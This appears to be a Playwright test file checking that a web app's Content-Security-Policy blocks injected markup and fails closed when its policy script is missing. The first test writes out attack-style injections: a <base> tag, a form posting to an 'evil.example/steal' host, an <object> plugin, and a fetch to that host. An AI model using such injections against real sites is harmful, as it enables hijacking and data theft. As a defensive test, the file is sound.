import { expect, test } from '@playwright/test';
import { freshApp, libraryRows, readyApp, shot, storeJudgeEndpoint } from './helpers';

/**
 * the Content-Security-Policy (index.html) lacked base-uri and form-action. Injected
 * markup that got past the text rendering still could not re-point relative URLs, post a form,
 * load a plugin or call another host: each is refused by the browser and reported.
 */
test('the CSP refuses a <base>, a form post, an <object> and a request to another host', async ({ page }) => {
  const requests: string[] = [];
  page.on('request', (r) => {
    if (!r.url().startsWith('http://127.0.0.1')) requests.push(r.url());
  });
  await freshApp(page);
  const result = await page.evaluate(async () => {
    const seen: string[] = [];
    document.addEventListener('securitypolicyviolation', (e) => seen.push(e.effectiveDirective));
    const baseBefore = document.baseURI;
    const base = document.createElement('base');
    base.href = 'https://evil.example/';
    document.head.appendChild(base);
    const baseAfter = document.baseURI;
    const form = document.createElement('form');
    form.action = 'https://evil.example/steal';
    form.method = 'post';
    document.body.appendChild(form);
    form.submit();
    const object = document.createElement('object');
    object.data = 'https://evil.example/plugin.swf';
    document.body.appendChild(object);
    const fetched = await fetch('https://evil.example/x').then(
      () => 'fetched',
      () => 'refused',
    );
    await new Promise((r) => setTimeout(r, 500));
    return { same: baseBefore === baseAfter, fetched, seen: [...new Set(seen)].sort() };
  });
  expect(result).toEqual({
    same: true,
    fetched: 'refused',
    seen: ['base-uri', 'connect-src', 'form-action', 'object-src'],
  });
  expect(page.url()).toMatch(/^http:\/\/127\.0\.0\.1:\d+\/#?\/?$/);
  expect(requests).toEqual([]);
});

test('without judge-csp.js the policy fails closed: no remote endpoint, even the configured one', async ({ page }) => {
  await page.route('**/judge-csp.js', (r) => r.abort());
  await readyApp(page);
  await storeJudgeEndpoint(page, 'https://judge.example.test/v1');
  await page.reload();
  await expect(page.getByRole('table', { name: 'Library' })).toBeVisible();
  const meta = page.locator('#judge-csp');
  await expect(meta).toHaveAttribute('content', "connect-src 'self' http://127.0.0.1:* http://localhost:*");
  await expect(meta).toHaveAttribute('data-fallback', 'judge-csp.js did not run');
  const tried = await page.evaluate(async () => {
    const blocked: string[] = [];
    document.addEventListener('securitypolicyviolation', (e) => blocked.push(e.blockedURI));
    const refused = async (u: string) =>
      fetch(u, { method: 'POST', body: '{}' }).then(
        () => false,
        () => true,
      );
    const result = {
      configured: await refused('https://judge.example.test/v1/chat/completions'),
      other: await refused('https://elsewhere.example.test/x'),
    };
    await new Promise((r) => setTimeout(r, 200));
    return { ...result, blocked: blocked.sort() };
  });
  expect(tried).toEqual({
    configured: true,
    other: true,
    blocked: ['https://elsewhere.example.test/x', 'https://judge.example.test/v1/chat/completions'],
  });
  // The Judge tab says why, instead of offering a reload that would not help.
  await libraryRows(page).filter({ hasText: 'Docs writer with recorded LLM judge answers' }).first().click();
  await page.getByRole('tab', { name: 'Judge' }).click();
  await expect(page.getByLabel('Base URL')).toHaveValue('https://judge.example.test/v1');
  await expect(page.getByRole('status').filter({ hasText: 'allows no remote endpoint' })).toHaveText(
    'This page allows no remote endpoint: its policy script (judge-csp.js) did not load, so only servers on 127.0.0.1 or localhost can be reached.',
  );
  await expect(page.getByRole('button', { name: 'Reload now' })).toHaveCount(0);
  await shot(page, 'csp-01-judge-fail-closed');
});
